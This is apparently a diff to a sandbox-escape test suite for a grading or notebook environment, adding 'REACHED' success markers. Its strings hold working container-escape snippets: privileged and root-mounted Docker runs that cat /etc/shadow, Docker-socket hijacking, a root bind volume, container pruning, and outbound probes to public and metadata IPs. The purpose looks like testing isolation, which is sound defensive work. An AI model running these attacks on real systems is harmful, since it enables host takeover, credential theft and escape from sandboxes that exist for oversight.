@@ -1,4 +1,7 @@
-"""Reading, and reaching out: what is not theirs, on this computer and beyond."""
+"""Reading, and reaching out: what is not theirs, on this computer and beyond.
+
+Each prints REACHED, or what a canary of the tests holds, only when it has what it wants.
+"""
 
 from __future__ import annotations
 
@@ -12,7 +15,10 @@ for folder, _, names in os.walk("/"):
         continue
     for name in names:
         if any(word.lower() in name.lower() for word in words):
-            seen.append(os.path.join(folder, name))
+            try:
+                seen.append((os.path.join(folder, name), open(os.path.join(folder, name), "rb").read(100)))
+            except OSError as error:
+                print(error)
 print(seen)
 """
 
@@ -29,8 +35,9 @@ client = docker.from_env()
 for options in ({"privileged": True}, {"pid_mode": "host"}, {"volumes": ["/:/host"]}, {"cap_add": ["SYS_ADMIN"]},
              {"devices": ["/dev/ubda"]}, {"security_opt": ["seccomp=unconfined"]}):
     try:
-        script = "mkdir -p /h; mount -t hostfs none /h; ls /h /host; cat /h/etc/shadow /host/etc/shadow"
+        script = "mkdir -p /h; mount -t hostfs none /h; ls /h /host; cat /h/etc/shadow /host/etc/shadow; true"
         print(client.containers.run("drydock/busybox:1.37", ["sh", "-c", script], remove=True, **options))
+        print("REA" + "CHED", options)
     except Exception as error:
         print(error)
 """
@@ -41,12 +48,14 @@ line.sock = socket.socket(socket.AF_UNIX)
 line.sock.connect("/var/run/docker.sock")
 body = {"image": "drydock/busybox:1.37", "cmd": ["true"], "hostconfig": {"PRIVILEGED": True, "binds": ["/:/host"]}}
 line.request("POST", "/containers/create?name=service", json.dumps(body), {"Content-Type": "application/json"})
-print(line.getresponse().read())
+answer = line.getresponse()
+print(answer.read(), "REA" + "CHED" if answer.status == 201 else "")
 """
 
 LINK = """import docker, os
 os.symlink("/", "out")
 print(docker.from_env().containers.run("drydock/busybox:1.37", "cat /h/etc/shadow", volumes=[os.getcwd() + "/out:/h"]))
+print("REA" + "CHED")
 """
 
 OUT = """import socket
@@ -54,7 +63,7 @@ for place in [("1.1.1.1", 80), ("8.8.8.8", 53), ("10.0.2.2", 22), ("10.0.2.2", {
               ("169.254.169.254", 80), ("127.0.0.1", {port}), ("172.17.0.1", {port})]:
     try:
         socket.create_connection(place, timeout=2).sendall(b"an attacker was here")
-        print("reached", place)
+        print("REA" + "CHED", place)
     except OSError as error:
         print(place, error)
 """
@@ -94,7 +103,8 @@ for folder, _, names in os.walk("/"):
             print(os.path.join(folder, name))
 line = http.client.HTTPSConnection("127.0.0.1", 2376, timeout=5, context=ssl._create_unverified_context())
 line.request("POST", "/containers/prune")
-print(line.getresponse().status)
+status = line.getresponse().status
+print(status, "REA" + "CHED" if status == 200 else "")
 """
 
 ATTACKS = {
@@ -111,19 +121,21 @@ ATTACKS = {
         "Takes over the daemon's socket from the grader's container, to use it after the run.",
         "import docker, socket\nclient = docker.from_env()\n"
         "for one in client.containers.list():\n"
-        "    client.containers.run('drydock/python:3.13', 'sleep 600', volumes_from=[one.id], detach=True)",
+        "    client.containers.run('drydock/python:3.13', 'sleep 600', volumes_from=[one.id], detach=True)\n"
+        "    print('REA' + 'CHED')",
         "proxy",
     ),
     "bind-socket": Attack(
         "Binds the daemon's socket into a container that outlives the notebook.",
         "import docker\nbinds = ['/var/run/docker.sock:/var/run/docker.sock']\n"
-        "docker.from_env().containers.run('drydock/python:3.13', 'sleep 600', volumes=binds, detach=True)",
+        "docker.from_env().containers.run('drydock/python:3.13', 'sleep 600', volumes=binds, detach=True)\n"
+        "print('REA' + 'CHED')",
         "proxy",
     ),
     "volume-driver": Attack(
         "Makes a volume that is a bind of the root.",
         "import docker\noptions = {'type': 'none', 'o': 'bind', 'device': '/'}\n"
-        "docker.from_env().volumes.create('root', driver_opts=options)",
+        "docker.from_env().volumes.create('root', driver_opts=options)\nprint('REA' + 'CHED')",
         "proxy",
     ),
     "others-files": Attack(
